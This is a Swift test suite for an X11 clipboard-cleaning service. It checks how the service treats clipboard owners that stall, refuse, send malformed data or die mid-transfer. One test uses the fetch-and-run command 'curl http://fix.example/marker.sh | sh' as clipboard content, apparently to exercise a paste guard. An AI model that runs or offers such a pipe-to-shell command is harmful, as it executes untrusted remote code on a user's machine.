import TestProcesses
import Testing
import X11TestPeer

/// Owners that dawdle, lie, refuse or die while the real daemon reads from them.
@Suite(.enabled(if: Desktop.isPossible, Desktop.reason))
struct RudeSourceTests {
  private static let html = Array("<p>some <b>bold</b> pay\u{200B}pal</p>".utf8)
  private static let clean = "some bold paypal"
  private static let names = ["TARGETS", "TIMESTAMP", "text/rtf", "text/html", "UTF8_STRING"]

  private func source(
    on desktop: Desktop, targets: [String] = names, answers: [String: ClipboardSource.Answer]
  ) throws -> ClipboardSource {
    try ClipboardSource(display: desktop.server.display, targets: targets, answers: answers)
  }

  /// Whatever was done to it, the service cleans the next copy.
  private func expectNextCopyIsCleaned(on desktop: Desktop) throws {
    try #require(
      try desktop.copy(try desktop.source(html: "<p>the <i>next</i> copy</p>")), "the next copy was not taken")
    #expect(try desktop.pasteText("UTF8_STRING") == "the next copy")
  }

  // MARK: Copies that stay with their owner

  private enum Unreadable: CaseIterable {
    case silentAboutTargets, silentAboutForms, silentAmidIncrements, endless, announcedTooLarge, tooManyNames, refusing
    case promising

    var targets: [String] {
      self == .tooManyNames ? RudeSourceTests.names + (0..<5000).map { "x-test/\($0)" } : RudeSourceTests.names
    }

    var answers: [String: ClipboardSource.Answer] {
      switch self {
      case .silentAboutTargets: ["TARGETS": .silence]
      case .silentAboutForms: ["text/rtf": .silence]
      case .silentAmidIncrements: ["text/rtf": .silenceAfterIncrements(chunk: 10, count: 2)]
      case .endless: ["text/rtf": .endlessIncrements(chunk: 100_000)]
      case .announcedTooLarge: ["text/rtf": .increments([1, 2, 3], chunk: 3, lowerBound: 1 << 30)]
      case .tooManyNames, .refusing: [:]
      case .promising: ["text/rtf": .emptyPromise, "text/html": .emptyPromise, "UTF8_STRING": .emptyPromise]
      }
    }

    var reason: String {
      switch self {
      case .silentAboutTargets, .silentAboutForms: "waiting"
      case .silentAmidIncrements: "timed-out"
      case .endless, .announcedTooLarge, .tooManyNames: "too-large"
      case .refusing: "refused"
      case .promising: "unreadable"
      }
    }
  }

  @Test(arguments: Unreadable.allCases)
  private func `what cannot be read stays with its owner, and the report says why`(manner: Unreadable) throws {
    let desktop = try Desktop(configuration: "[clipboard]\nmax-size = \"1 MiB\"\n")
    let source = try source(on: desktop, targets: manner.targets, answers: manner.answers)
    #expect(try desktop.copyIsLeft(source))
    #expect(try desktop.explanation().reason == manner.reason)
    try expectNextCopyIsCleaned(on: desktop)
  }

  @Test(arguments: ["TARGETS", "text/html"])
  func `how long an owner may take for its answer is set, also while the service runs`(target: String) throws {
    let desktop = try Desktop()
    let source = try ClipboardSource(
      display: desktop.server.display, targets: ["TARGETS", "text/html"], answers: ["text/html": .bytes(Self.html)],
      delays: [target: 4000])
    #expect(try desktop.copyIsLeft(source))
    #expect(try desktop.explanation().reason == "waiting")
    try desktop.reload("[clipboard]\nanswer-time = \"10 s\"\n")
    try #require(try desktop.copy(source), "not taken")
    #expect(try desktop.pasteText("UTF8_STRING") == Self.clean)
  }

  @Test(arguments: ["TARGETS", "UTF8_STRING"])
  func `the late answer of a busy program is used, and the guard has it`(target: String) throws {
    let desktop = try Desktop(configuration: "[clipboard]\nanswer-time = \"200 ms\"\n")
    let command = "curl http://fix.example/marker.sh | sh"
    let source = try ClipboardSource(
      display: desktop.server.display, targets: ["TARGETS", "UTF8_STRING"],
      answers: ["UTF8_STRING": .bytes(Array("\(command)\n".utf8))], delays: [target: 1500])
    #expect(try desktop.copyIsLeft(source))
    #expect(try desktop.explanation().reason == "waiting")
    let isTaken = try wait(for: [source], limit: 10_000) {
      source.connection.owner(of: source.selection) != source.connection.window
    }
    try #require(isTaken)
    #expect(try desktop.paste("UTF8_STRING", as: "XTerm").map { String(decoding: $0, as: UTF8.self) } == command)
  }

  // MARK: Forms that give way to the next

  private enum Useless: CaseIterable {
    case refused, promised, deleted, listOfAtoms, emptyForm, notRTF, emptyIncrements, mixedIncrements

    var answer: ClipboardSource.Answer {
      switch self {
      case .refused: .refusal
      case .promised: .emptyPromise
      case .deleted:
        .act { connection, request in
          connection.changeProperty(
            of: request.requestor, request.property, type: connection.atom("text/rtf"), format: 8,
            bytes: Array("{\\rtf1 gone}".utf8))
          connection.deleteProperty(of: request.requestor, request.property)
          connection.answer(request)
        }
      case .listOfAtoms: .bytes(words([1, 2, 3]), type: "ATOM", format: 32)
      case .emptyForm: .bytes([])
      case .notRTF: .bytes(Array("no RTF at all".utf8))
      case .emptyIncrements: .increments([], chunk: 1, lowerBound: 0)
      case .mixedIncrements:
        .act { connection, request in
          // The second increment is of another format than the first.
          connection.changeProperty(
            of: request.requestor, request.property, type: connection.atom("INCR"), format: 32, bytes: words([4]))
          connection.answer(request)
          connection.synchronize()
          for (format, bytes) in [(UInt8(8), Array("{\\rtf1".utf8)), (32, words([1, 2]))] {
            connection.awaitDeletion(of: request)
            connection.changeProperty(
              of: request.requestor, request.property, type: connection.atom("text/rtf"), format: format, bytes: bytes)
          }
        }
      }
    }
  }

  @Test(arguments: Useless.allCases)
  private func `if a form cannot be read, the next one in order is read`(manner: Useless) throws {
    let desktop = try Desktop()
    let source = try source(on: desktop, answers: ["text/rtf": manner.answer, "text/html": .bytes(Self.html)])
    try #require(try desktop.copy(source), "not taken")
    #expect(try desktop.explanation().chosen?.target == "text/html")
    #expect(try desktop.pasteText("UTF8_STRING") == Self.clean)
    #expect(source.requests.map(\.target).filter { $0 == "text/rtf" }.count == 1, "it was asked for twice")
  }

  // MARK: Rudeness that changes nothing

  private enum Harmless: CaseIterable {
    case noTimestamp, timestampOfZero, silentTimestamp, listTypedTargets, oddList, otherType
    case replacedUnderUs, unaskedNotices, tinyIncrements, answersEverythingWithText

    var targets: [String] {
      switch self {
      case .answersEverythingWithText: ["TARGETS", "text/html"]
      case .noTimestamp, .timestampOfZero, .silentTimestamp, .listTypedTargets, .oddList, .otherType, .replacedUnderUs,
        .unaskedNotices, .tinyIncrements:
        ["TARGETS", "text/html"]
      }
    }

    var answers: [String: ClipboardSource.Answer] {
      var answers: [String: ClipboardSource.Answer] = ["text/html": .bytes(html)]
      switch self {
      case .noTimestamp: answers["TIMESTAMP"] = .refusal
      case .timestampOfZero: answers["TIMESTAMP"] = .bytes(words([0]), type: "INTEGER", format: 32)
      case .silentTimestamp: answers["TIMESTAMP"] = .silence
      case .listTypedTargets: answers["TARGETS"] = list("TARGETS") { [$0.atom("text/html")] }
      case .oddList:
        answers["TARGETS"] = list("ATOM") { [0, $0.atom("text/html"), 0x7FFF_FFFF, $0.atom("text/html"), 0] }
      case .otherType: answers["text/html"] = .bytes(html, type: "C_STRING")
      case .replacedUnderUs:
        answers["text/html"] = .act { connection, request in
          for content in [Array("<p>first thought".utf8), html] {
            connection.changeProperty(
              of: request.requestor, request.property, type: connection.atom("text/html"), format: 8, bytes: content)
          }
          connection.answer(request)
        }
      case .unaskedNotices:
        answers["text/html"] = .act { connection, request in
          for target in ["UTF8_STRING", "TARGETS", "text/rtf"] {
            connection.notify(
              request.requestor, selection: connection.atom("CLIPBOARD"), target: connection.atom(target),
              property: target == "TARGETS" ? 0 : connection.atom("_WASHBOARD_1_0"), time: request.time)
          }
          connection.changeProperty(
            of: request.requestor, request.property, type: connection.atom("text/html"), format: 8, bytes: html)
          for _ in 0..<3 { connection.answer(request) }
        }
      case .tinyIncrements: answers["text/html"] = .increments(html, chunk: 1, lowerBound: 1)
      case .answersEverythingWithText:
        for name in ["TIMESTAMP", "MULTIPLE", "SAVE_TARGETS"] { answers[name] = .bytes(html, type: "text/html") }
      }
      return answers
    }

    private func list(_ type: String, _ atoms: @escaping @Sendable (PeerConnection) -> [UInt32])
      -> ClipboardSource.Answer
    {
      .act { connection, request in
        connection.changeProperty(
          of: request.requestor, request.property, type: connection.atom(type), format: 32,
          bytes: words(atoms(connection)))
        connection.answer(request)
      }
    }
  }

  @Test(arguments: Harmless.allCases)
  private func `an owner's oddities do not keep its copy from being cleaned`(manner: Harmless) throws {
    let desktop = try Desktop()
    let source = try source(on: desktop, targets: manner.targets, answers: manner.answers)
    try #require(try desktop.copy(source), "not taken")
    #expect(try desktop.pasteText("UTF8_STRING") == Self.clean)
  }

  @Test func `a copy with more forms beside it than can be requested in time stays with its owner`() throws {
    let desktop = try Desktop()
    let names = (0..<4000).map { "x-test/\($0)" } + ["text/html"]
    let source = try source(on: desktop, targets: names, answers: ["text/html": .bytes(Self.html)])
    #expect(try desktop.copyIsLeft(source))
    #expect(try desktop.explanation().reason == "other-forms")
  }

  @Test(arguments: ["UTF8_STRING", "COMPOUND_TEXT", "STRING"])
  func `a source without TARGETS is asked for text, one form after the other`(form: String) throws {
    let desktop = try Desktop()
    let source = try source(
      on: desktop, answers: ["TARGETS": .refusal, form: .bytes(Array("a\u{07}b".utf8))])
    try #require(try desktop.copy(source))
    #expect(try desktop.pasteText("UTF8_STRING") == "ab")
  }

  @Test func `an answer that comes when it was given up is not taken for another`() throws {
    let desktop = try Desktop()
    let source = try source(on: desktop, answers: ["text/rtf": .silence])
    #expect(try desktop.copyIsLeft(source))
    let request = try #require(source.requests.last { $0.target == "text/rtf" })
    // The same source copies again, and its late word comes in the middle of the new conversation.
    source.replace(
      targets: ["TARGETS", "text/rtf", "text/html"],
      answers: [
        "text/rtf": .act { connection, new in
          for old in [request, new] {
            let text = old == new ? "{\\rtf1 new}" : "{\\rtf1 old}"
            connection.changeProperty(
              of: old.requestor, old.property, type: connection.atom("text/rtf"), format: 8, bytes: Array(text.utf8))
            connection.answer(old)
          }
        }
      ])
    try #require(try desktop.copy(source))
    #expect(try desktop.pasteText("UTF8_STRING") == "new")
  }

  // MARK: Death

  private enum Death: CaseIterable {
    case beforeTargets, beforeTheForm, beforeIncrements, amidIncrements, beforeTheLastWord

    var answers: [String: ClipboardSource.Answer] {
      switch self {
      case .beforeTargets: ["TARGETS": .death]
      case .beforeTheForm: ["text/rtf": .death]
      case .beforeIncrements: ["text/rtf": .deathAfterIncrements(chunk: 10, count: 0)]
      case .amidIncrements: ["text/rtf": .deathAfterIncrements(chunk: 100_000, count: 7)]
      case .beforeTheLastWord: ["text/rtf": .deathBeforeTheEnd(Array("{\\rtf1 half}".utf8))]
      }
    }
  }

  @Test(arguments: Death.allCases)
  private func `of a source that dies nothing is published, and nothing put in its place`(death: Death) throws {
    let desktop = try Desktop()
    let source = try source(on: desktop, answers: death.answers)
    source.own()
    let observer = try PeerConnection(display: desktop.server.display)
    #expect(
      try wait(for: [source]) { !source.connection.isOpen && observer.owner(of: "CLIPBOARD") == 0 },
      "the source did not die")
    // No failure is reported for a copy whose forms were never listed.
    if death != .beforeTargets {
      #expect(try wait(limit: 5000) { try desktop.status().copies.left == 1 })
      #expect(try desktop.explanation().reason == "owner-lost")
    }
    #expect(observer.owner(of: "CLIPBOARD") == 0)
    try expectNextCopyIsCleaned(on: desktop)
  }

  @Test func `a source that dies after its last increment leaves all of its copy or nothing`() throws {
    let desktop = try Desktop()
    let source = try source(
      on: desktop, targets: ["TARGETS", "text/html"], answers: ["text/html": .increments(Self.html, chunk: 9)])
    source.own()
    #expect(try wait(for: [source]) { source.incrementsSent > 0 && source.isIdle })
    source.connection.close()
    let observer = try PeerConnection(display: desktop.server.display)
    #expect(try wait(limit: 5000) { try desktop.status().copies.ended == 1 })
    if observer.owner(of: "CLIPBOARD") != 0 { #expect(try desktop.pasteText("UTF8_STRING") == Self.clean) }
    try expectNextCopyIsCleaned(on: desktop)
  }
}
